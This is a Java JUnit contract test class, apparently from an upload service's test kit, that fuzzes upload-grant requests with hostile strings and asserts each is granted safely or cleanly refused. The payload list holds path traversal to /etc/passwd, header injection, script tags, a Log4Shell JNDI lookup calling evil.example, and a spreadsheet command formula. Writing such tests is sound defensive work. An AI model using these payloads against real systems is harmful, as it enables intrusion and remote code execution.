package io.uploadgrants.testkit.contract;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;

/** Hostile text stays text: it is granted or refused, and breaks neither. */
abstract class HostileTextRules extends ServedRules {

  private static final List<String> PROFILES = List.of("any", "form", "avatar", "folder");

  HostileTextRules(UploadEndpointContract contract) {
    super(contract);
  }

  /** Texts as they stand between the quotes in JSON. */
  static Stream<String> hostileTexts() {
    return Stream.of(
        "..",
        "../../etc/passwd",
        "/",
        "//",
        "./",
        "\\\\",
        "..\\\\..",
        "\\u0000",
        "a\\u0000b",
        "\\r\\n",
        "a\\r\\nSet-Cookie: evil=1",
        "\\u0085\\u2028\\u2029",
        "%2F",
        "%2e%2e%2f",
        "%00",
        "*",
        "?",
        "${filename}",
        "${aws:username}",
        "#{7*7}",
        "\\\"",
        "\\\"}],\\\"x\\\":[{",
        "'",
        "<script>alert(1)</script>",
        "\\u003c/script>",
        "\ud83d\ude00",
        "\\ud83d\\ude00",
        "\ud83d\ude00".repeat(40) + "x",
        "x" + "\ud83d\ude00".repeat(300),
        "\u202egnp.exe",
        "\u200f\u2066\u2069\ufeff",
        "\\ud800",
        "\\udc00",
        "a\\ud800b",
        "\\udc00\\ud800",
        "\\ud800\\ud800",
        "x".repeat(79) + "\\ud83d\\ude00",
        "\ufffe\uffff",
        "\\ufffe",
        "e\u0301".repeat(400),
        " ",
        "  ",
        "\\t",
        "%s%n%d",
        "{} {}",
        "${jndi:ldap://evil.example/a}",
        "=cmd|' /C calc'!A0",
        "a;b=c,d",
        "x".repeat(10_240),
        "\u00fc".repeat(10_240),
        "\\ud800".repeat(5_000));
  }

  @ParameterizedTest
  @MethodSource("hostileTexts")
  void hostileTextInAnyMemberIsGrantedOrRefusedButNeverFails(String text) {
    for (String profile : PROFILES) {
      String start = "{\"profile\":\"" + profile + "\",";
      check(start + "\"fileName\":\"" + text + "\"}");
      check(start + "\"size\":5,\"contentType\":\"image/png\",\"fileName\":\"" + text + "\"}");
      check(start + "\"contentType\":\"" + text + "\"}");
      check(start + "\"contentType\":\"image/" + text + "\"}");
      check(start + "\"contentType\":\"image/png;a=\\\"" + text + "\\\"\"}");
      check(start + "\"kind\":\"" + text + "\"}");
      check(start + "\"size\":\"" + text + "\"}");
      check(start + "\"checksum\":\"" + text + "\"}");
      check(start + "\"checksum\":{\"algorithm\":\"" + text + "\",\"value\":\"x\"}}");
      check(start + "\"checksum\":{\"algorithm\":\"SHA256\",\"value\":\"" + text + "\"}}");
      check(start + "\"metadata\":{\"" + text + "\":\"x\"}}");
      check(start + "\"" + text + "\":\"x\"}");
    }
    check("{\"profile\":\"" + text + "\"}");
  }

  @ParameterizedTest
  @MethodSource("hostileTexts")
  void aHostileSubjectIsGrantedOrRefusedButNeverLeavesItsPlace(String escaped) {
    String subject = escaped.substring(0, Math.min(escaped.length(), 1_200));
    Reply reply = endpoint().post(subject, "{\"profile\":\"any\"}");

    assertGrantedOrRefused(reply);
    if (reply.status() == 201) {
      assertThat(reply.json().path("key").asString())
          .matches(
              "any/[A-Za-z0-9_-][A-Za-z0-9._!-]*/2026/11/24/[0-9a-f]{32}|any/![^/]*/2026/11/24/[0-9a-f]{32}");
    }
  }

  private void check(String body) {
    assertGrantedOrRefused(endpoint().post(body));
  }

  private static void assertGrantedOrRefused(Reply reply) {
    if (reply.status() == 201) {
      JsonNode grant = reply.grant();
      assertThat(grant.path("key").asString())
          .matches("[A-Za-z0-9._!/-]+|folders/alice/[0-9a-f]{32}/\\$\\{filename}")
          .doesNotMatch("(.*/)?\\.{0,2}(/.*)?");
      for (Map.Entry<String, JsonNode> header : grant.path("headers").properties()) {
        assertHeader(header.getValue().asString());
      }
      return;
    }
    assertThat(reply.status()).as(reply.text()).isBetween(400, 499);
    JsonNode problem = reply.problem();
    assertThat(reply.bytes()).hasSizeLessThan(4_000);
    assertShowable(problem.path("detail").asString());
    assertShowable(problem.path("given").asString(""));
    reply.headers().values().forEach(values -> values.forEach(HostileTextRules::assertHeader));
  }

  private static void assertHeader(String value) {
    assertThat(value.chars().allMatch(c -> c >= ' ' && c < 0x7f)).as(value).isTrue();
  }

  /** A log or a terminal must not interpret what is shown of hostile text. */
  private static void assertShowable(String text) {
    assertThat(text.codePoints())
        .as(text)
        .noneMatch(
            c ->
                Character.isISOControl(c)
                    || List.of(Character.FORMAT, Character.LINE_SEPARATOR, Character.SURROGATE)
                        .contains((byte) Character.getType(c)));
  }
}
